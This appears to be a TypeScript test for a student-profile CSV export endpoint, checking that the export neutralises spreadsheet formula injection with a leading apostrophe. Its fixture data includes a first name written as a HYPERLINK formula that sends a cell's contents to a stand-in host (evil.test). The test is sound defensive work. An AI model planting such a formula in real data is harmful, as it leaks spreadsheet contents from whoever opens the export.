// GET /api/student-profiles/export/ with text a spreadsheet would run: anyone can sign up with such
// a name, so no cell of the export may begin with a formula character (OWASP's CSV injection rule).
import { eq } from 'drizzle-orm';
import { users } from '../../helpers/db';
import { buildTestApp, createUser, injectAs, type TestApp } from '../../helpers/app';
import { updateProfile } from '../../helpers/groups';

let t: TestApp;
afterAll(() => t.close());

it('neutralises formulas in names, phones, nationality and offer with a leading apostrophe', async () => {
  t = await buildTestApp();
  const asOps = await injectAs(t.app, await createUser(t.app, { role: 'operations_manager' }));
  const student = await createUser(t.app, {
    role: 'student',
    firstName: '=HYPERLINK("http://evil.test/?d="&A2,"Click")',
    lastName: 'Nabil',
    phoneNumber: '+201000000042',
  });
  await t.app.db.update(users).set({ nationality: '@SUM(A1:A9)' }).where(eq(users.id, student.id));
  await updateProfile(t.app, student.id, { offer: '-2+3' });

  const res = await asOps({ method: 'GET', url: '/api/student-profiles/export/' });
  expect(res.statusCode).toBe(200);
  const row = res.body.split('\r\n')[1];
  expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.test\/\?d=""&A2,""Click""\) Nabil",/);
  expect(row).toContain(",'+201000000042,");
  expect(row).toContain(",'@SUM(A1:A9),");
  expect(row).toContain(",'-2+3,");
  expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
});
